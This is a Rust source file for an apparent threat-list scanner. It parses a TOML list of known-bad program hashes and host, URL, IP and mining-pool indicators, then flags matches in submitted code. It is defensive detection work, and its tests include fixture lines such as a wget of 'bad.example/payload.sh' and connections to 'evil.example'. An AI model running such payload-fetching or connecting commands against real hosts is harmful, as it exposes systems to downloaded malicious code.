//! The operators' threat list: hashes of known-bad programs and indicators (hosts, URLs,
//! addresses, mining pools) that block code wherever they appear in it.

use crate::error::EngineError;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use serde::Deserialize;
use sha2::{Digest, Sha256};
use std::collections::HashMap;

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ThreatFile {
    version: String,
    #[serde(default)]
    threat: Vec<ThreatSpec>,
    /// Kinds of address malware uses (`crate::destinations`).
    #[serde(default)]
    shady: Vec<crate::destinations::ShadySpec>,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ThreatKind {
    /// SHA-256 of a whole program (as submitted, or with line ends and trailing spaces
    /// normalized).
    Sha256,
    Host,
    Url,
    Ip,
    MinerPool,
}

impl ThreatKind {
    pub fn rule_id(self) -> &'static str {
        match self {
            ThreatKind::Sha256 => "AIR-THREAT-SHA256",
            ThreatKind::Host => "AIR-THREAT-HOST",
            ThreatKind::Url => "AIR-THREAT-URL",
            ThreatKind::Ip => "AIR-THREAT-IP",
            ThreatKind::MinerPool => "AIR-THREAT-MINER-POOL",
        }
    }
}

#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
struct ThreatSpec {
    kind: ThreatKind,
    value: String,
    description: String,
}

#[derive(Debug, Clone, PartialEq)]
pub struct ThreatHit {
    pub kind: ThreatKind,
    pub value: String,
    pub description: String,
    /// Byte range in the source; empty for whole-program hashes.
    pub start: usize,
    pub end: usize,
}

#[derive(Debug)]
pub struct ThreatList {
    pub version: String,
    /// Shady destinations and IP numbers, checked against what the program connects to.
    pub destinations: crate::destinations::Destinations,
    hashes: HashMap<[u8; 32], String>,
    indicators: Vec<ThreatSpec>,
    matcher: Option<AhoCorasick>,
}

impl ThreatList {
    pub fn parse(file: &str, text: &str) -> Result<ThreatList, EngineError> {
        let invalid = |message: String| EngineError::ThreatsInvalid {
            file: file.to_string(),
            message,
        };
        let parsed: ThreatFile = toml::from_str(text).map_err(|source| EngineError::ThreatsSyntax {
            file: file.to_string(),
            source,
        })?;
        if parsed.version.trim().is_empty() {
            return Err(invalid("`version` is empty".into()));
        }
        let mut hashes = HashMap::new();
        let mut indicators = Vec::new();
        for threat in parsed.threat {
            if threat.kind == ThreatKind::Sha256 {
                let mut digest = [0u8; 32];
                hex::decode_to_slice(threat.value.trim(), &mut digest).map_err(|source| EngineError::ThreatHash {
                    file: file.to_string(),
                    value: threat.value.clone(),
                    source,
                })?;
                hashes.insert(digest, threat.description);
            } else {
                let value = threat.value.trim().to_ascii_lowercase();
                if value.len() < 4 {
                    return Err(invalid(format!("indicator {value:?} is too short to match safely")));
                }
                indicators.push(ThreatSpec { value, ..threat });
            }
        }
        let matcher = if indicators.is_empty() {
            None
        } else {
            Some(
                AhoCorasickBuilder::new()
                    // A contiguous NFA builds in a fraction of a DFA's time and scans a
                    // program-sized input about as fast: start-up is what matters here.
                    .kind(Some(aho_corasick::AhoCorasickKind::ContiguousNFA))
                    .ascii_case_insensitive(true)
                    .match_kind(MatchKind::LeftmostLongest)
                    .build(indicators.iter().map(|i| i.value.as_bytes()))
                    .map_err(|source| EngineError::ThreatsMatcher {
                        file: file.to_string(),
                        source,
                    })?,
            )
        };
        let destinations = crate::destinations::Destinations::new(parsed.shady).map_err(invalid)?;
        Ok(ThreatList {
            version: parsed.version,
            destinations,
            hashes,
            indicators,
            matcher,
        })
    }

    /// Every threat found in the program, hash matches first.
    pub fn scan(&self, code: &[u8]) -> Vec<ThreatHit> {
        let mut hits = Vec::new();
        for digest in [Sha256::digest(code).into(), Sha256::digest(normalize(code)).into()] {
            let digest: [u8; 32] = digest;
            if let Some(description) = self.hashes.get(&digest) {
                hits.push(ThreatHit {
                    kind: ThreatKind::Sha256,
                    value: hex::encode(digest),
                    description: description.clone(),
                    start: 0,
                    end: 0,
                });
                break;
            }
        }
        let Some(matcher) = &self.matcher else {
            return hits;
        };
        for m in matcher.find_iter(code) {
            let Some(indicator) = self.indicators.get(m.pattern().as_usize()) else {
                continue;
            };
            if indicator.kind != ThreatKind::Url && !standalone(code, m.start(), m.end()) {
                continue;
            }
            if hits.len() >= 100 {
                break;
            }
            hits.push(ThreatHit {
                kind: indicator.kind,
                value: indicator.value.clone(),
                description: indicator.description.clone(),
                start: m.start(),
                end: m.end(),
            });
        }
        hits
    }
}

/// A host name or address not embedded in a longer one: `evil.example` matches in
/// `x.evil.example` and `http://evil.example:8080`, not in `notevil.example` or
/// `evil.example.org`.
fn standalone(code: &[u8], start: usize, end: usize) -> bool {
    let is_name_byte = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let before_ok = start == 0 || code.get(start - 1).is_none_or(|&b| !is_name_byte(b));
    let after_ok = match code.get(end) {
        None => true,
        Some(&b) if is_name_byte(b) => false,
        Some(b'.') => code.get(end + 1).is_none_or(|&b| !b.is_ascii_alphanumeric()),
        Some(_) => true,
    };
    before_ok && after_ok
}

/// The program with CRLF line ends, trailing spaces and trailing blank lines removed, so a
/// re-saved copy of a known-bad file still matches its hash.
fn normalize(code: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(code.len());
    for line in code.split(|&b| b == b'\n') {
        let end = line.iter().rposition(|b| !b" \t\r".contains(b)).map_or(0, |p| p + 1);
        out.extend_from_slice(&line[..end]);
        out.push(b'\n');
    }
    while out.last() == Some(&b'\n') {
        out.pop();
    }
    out.push(b'\n');
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    const LIST: &str = r#"
version = "test-1"
[[threat]]
kind = "host"
value = "Evil.Example"
description = "test host"
[[threat]]
kind = "url"
value = "http://bad.example/payload"
description = "test url"
[[threat]]
kind = "sha256"
value = "a948904f2f0f479b8f8197694b30184b0d2ed1c1cd2a1ec0fb85d299a192a447"
description = "hello world program"
"#;

    #[test]
    fn hosts_match_only_as_whole_names() {
        let list = ThreatList::parse("t", LIST).unwrap();
        let kinds = |code: &str| list.scan(code.as_bytes()).iter().map(|h| h.kind).collect::<Vec<_>>();
        assert_eq!(kinds("curl http://x.evil.example:80/a"), vec![ThreatKind::Host]);
        assert_eq!(kinds("s.connect(('EVIL.example', 1))"), vec![ThreatKind::Host]);
        assert!(kinds("notevil.example").is_empty());
        assert!(kinds("evil.example.org").is_empty());
        assert_eq!(kinds("evil.example."), vec![ThreatKind::Host]);
        assert_eq!(kinds("wget http://bad.example/payload.sh"), vec![ThreatKind::Url]);
    }

    #[test]
    fn hashes_match_after_normalizing_line_ends() {
        let list = ThreatList::parse("t", LIST).unwrap();
        // sha256 of "hello world\n"
        assert_eq!(list.scan(b"hello world\n")[0].kind, ThreatKind::Sha256);
        assert_eq!(list.scan(b"hello world  \r\n\r\n")[0].kind, ThreatKind::Sha256);
        assert!(list.scan(b"hello world!\n").is_empty());
    }

    #[test]
    fn bad_lists_are_refused() {
        assert!(ThreatList::parse("t", "version = \"\"").is_err());
        assert!(
            ThreatList::parse(
                "t",
                "version = \"1\"\n[[threat]]\nkind = \"sha256\"\nvalue = \"zz\"\ndescription = \"x\""
            )
            .is_err()
        );
        assert!(
            ThreatList::parse(
                "t",
                "version = \"1\"\n[[threat]]\nkind = \"host\"\nvalue = \"a\"\ndescription = \"x\""
            )
            .is_err()
        );
        assert!(ThreatList::parse("t", "version = \"1\"\nunknown = 1").is_err());
    }

    #[test]
    fn a_refusal_keeps_the_error_that_caused_it() {
        use std::error::Error as _;
        let bad_hash = "version = \"1\"\n[[threat]]\nkind = \"sha256\"\nvalue = \"zz\"\ndescription = \"x\"";
        let error = ThreatList::parse("t", bad_hash).unwrap_err();
        assert!(
            matches!(error, EngineError::ThreatHash { ref value, .. } if value == "zz"),
            "{error:?}"
        );
        let source = error.source().expect("the hex error is kept");
        assert!(source.downcast_ref::<hex::FromHexError>().is_some(), "{source:?}");
        assert!(
            error.to_string().starts_with("threat list t: sha256 \"zz\": "),
            "{error}"
        );

        let error = ThreatList::parse("t", "version = \"1\"\nunknown = 1").unwrap_err();
        assert!(matches!(error, EngineError::ThreatsSyntax { .. }), "{error:?}");
        let source = error.source().expect("the TOML error is kept");
        assert!(source.downcast_ref::<toml::de::Error>().is_some(), "{source:?}");
    }
}
